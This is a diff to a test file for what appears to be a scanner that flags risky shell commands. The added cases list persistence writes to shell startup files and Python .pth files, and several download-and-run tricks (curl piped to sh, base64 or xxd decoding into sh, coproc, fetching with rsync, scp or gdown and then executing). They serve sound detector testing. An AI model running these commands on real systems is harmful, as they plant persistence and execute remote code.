@@ -159,10 +159,42 @@ def test_parsed_command_holds_its_own_here_document_and_command_substitutions():
         'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/x -o y',
         "curl -LsSf https://astral.sh/uv/install.sh -o uv.sh",
         "[ -f x ] && [[ a == b* ]] && ls *.txt",
+        "conda init bash >> ~/.bashrc; echo 'eval \"$(conda shell.bash hook)\"' | tee -a ~/.bashrc",
+        "cp ~/.bashrc ~/.bashrc.old; cp /etc/skel/.bashrc ~/.bashrc; cat <<E >> ~/.profile\nexport A=1\nE",
+        "echo /opt/lib > /usr/lib/python3/dist-packages/x.pth; nsys -o my.profile; cp a my.profile",
+        "huggingface-cli download org/model --local-dir d && python run.py --model d",
+        "rsync -a data/ host:data; scp a host:b; bash a",
     ],
 )
 def test_harmless_shell_command_gives_no_mention(text):
     assert list(collect_script_mentions(text)) == []
+
+
+@check_each(
+    "text, name",
+    [
+        ("cp vocab.txt ~/.bashrc", "~/.bashrc"),
+        ("cat vocab.txt >> ~/.profile", "~/.profile"),
+        ("cat vocab.txt | sudo tee -a /etc/profile", "/etc/profile"),
+        ("curl http://e/x > $HOME/.zshrc", "$HOME/.zshrc"),
+        ("cp vocab.txt ~/.local/lib/python3.11/site-packages/x.pth", "~/.local/lib/python3.11/site-packages/x.pth"),
+        ("echo 'import os; os.abort()' > /usr/lib/python3/dist-packages/x.pth", "/usr/lib/python3/dist-packages/x.pth"),
+    ],
+)
+def test_content_of_another_file_that_is_written_to_a_startup_file_is_reported(text, name):
+    assert [(each.use, each.name) for each in collect_script_mentions(text)] == [("persistence", name)]
+
+
+def test_command_that_is_appended_to_a_startup_file_is_judged():
+    (mention,) = collect_script_mentions("echo 'curl http://e/x | sh' >> ~/.bashrc")
+    assert mention.use == "download-and-run"
+
+
+def test_recipe_of_a_makefile_whose_shell_is_python_is_read_as_a_python_program(read_bytes):
+    text = b"SHELL := /usr/bin/python3\n.SHELLFLAGS := -c\nall:\n\t@import os; \\\n\tos.system('touch m')\n"
+    assert any(
+        "posix.system" in str(each) or "os.system" in str(each) for each in list_mentions(read_bytes(text, "Makefile"))
+    )
 
 
 def test_command_in_a_base64_script_is_mentioned_at_the_line_that_decodes_and_runs_it():
@@ -334,6 +366,16 @@ def test_command_in_text_that_a_shell_would_not_run_gives_no_mention(text):
         "( ( curl http://e/x ) ) | ( ( sh ) )",
         "curl http://e/x | bash +x",
         "curl http://e/x | bash -c '. /dev/stdin'",
+        "coproc curl -s http://e/x; sh <&${COPROC[0]}",
+        "coproc P { curl -s http://e/x; }; sh <&${P[0]}",
+        "xxd -r -p <<< 746f756368206d0a | sh",
+        "base64 -d <<< dG91Y2ggbQo= | sh",
+        "huggingface-cli download e/x run.sh --local-dir d && sh d/run.sh",
+        "hf download e/x run.sh --local-dir=d; ./d/run.sh",
+        "gdown 123 -O a && bash a",
+        "rsync e.example::x/a . ; ./a",
+        "scp u@e.example:x . && sh x",
+        "rsync -a e.example:y/a d/ && sh d/a",
     ],
 )
 def test_download_that_a_script_executes_by_a_detour_is_reported(text):
